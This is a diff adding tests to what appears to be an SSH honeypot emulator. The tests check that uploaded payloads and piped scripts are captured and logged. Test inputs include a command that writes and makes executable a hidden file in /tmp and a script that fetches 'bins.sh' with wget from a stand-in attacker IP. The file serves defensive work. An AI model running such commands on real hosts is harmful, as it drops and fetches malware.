@@ -2,7 +2,7 @@
 // the client a human attacker uses must log in, run commands and upload.
 import { test } from 'node:test'
 import assert from 'node:assert/strict'
-import { execFile } from 'node:child_process'
+import { execFile, spawn } from 'node:child_process'
 import { createHash, randomBytes } from 'node:crypto'
 import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -22,6 +22,17 @@ function run(cmd: string, args: string[], env: Record<string, string> = {}): Pro
 }
 
 const sshpass = (pw: string, tool: string, args: string[]) => run('sshpass', ['-e', tool, ...args], { SSHPASS: pw })
+
+/** ssh with `input` on its stdin (then EOF), as `ssh host cmd < file` does. */
+function sshWithInput(pw: string, args: string[], input: Buffer): Promise<{ code: number; out: string }> {
+  return new Promise((resolve) => {
+    const p = spawn('sshpass', ['-e', 'ssh', ...args], { env: { ...process.env, SSHPASS: pw } })
+    let out = ''
+    p.stdout.on('data', (d: Buffer) => (out += d.toString()))
+    p.on('close', (code) => resolve({ code: code ?? 1, out }))
+    p.stdin.end(input)
+  })
+}
 
 test('openssh: sshpass + ssh exec returns the persona output and exit status', async (t) => {
   const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
@@ -64,4 +75,25 @@ test('openssh: scp uploads (sftp and legacy -O protocol) are stored with the sen
   }
   const r = await sshpass('S3cr3t!', 'ssh', [...OPTS, '-p', String(h.port(22)), 'root@127.0.0.1', 'ls /tmp'])
   assert.equal(r.out, 'bot-scp.bin\nbot-sftp.bin\n')
+})
+
+test('openssh: exec payloads on stdin (cat > file, | sh) are kept and interpreted', async (t) => {
+  const h = await startEmulator(t, 'ssh', { password: 'S3cr3t!' }, PERSONA)
+  const base = [...OPTS, '-p', String(h.port(22)), 'root@127.0.0.1']
+  const payload = randomBytes(30_000)
+  const r = await sshWithInput('S3cr3t!', [...base, 'cat > /tmp/.x && chmod +x /tmp/.x && ls -l /tmp/.x | wc -l'], payload)
+  assert.deepEqual(r, { code: 0, out: '1\n' })
+  const sha = createHash('sha256').update(payload).digest('hex')
+  const art = await h.sink.next('artifact', (e) => e.fields.sha256 === sha)
+  assert.deepEqual([art.fields.via, art.fields.cmd], ['exec_stdin', 'cat > /tmp/.x && chmod +x /tmp/.x && ls -l /tmp/.x | wc -l'])
+  const script = Buffer.from('cd /tmp\nwget http://203.0.113.5/bins.sh\necho ok\n')
+  const r2 = await sshWithInput('S3cr3t!', [...base, 'sh'], script)
+  assert.deepEqual(r2, { code: 0, out: 'ok\n' })
+  const dl = await h.sink.next('download_attempt')
+  assert.equal(dl.fields.url, 'http://203.0.113.5/bins.sh')
+  // a command that does not read stdin runs at once even though the client keeps stdin open
+  const t0 = Date.now()
+  const r3 = await sshpass('S3cr3t!', 'ssh', [...base, 'hostname'])
+  assert.deepEqual([r3.code, r3.out], [0, 'db-prod-3\n'])
+  assert.ok(Date.now() - t0 < 20_000)
 })
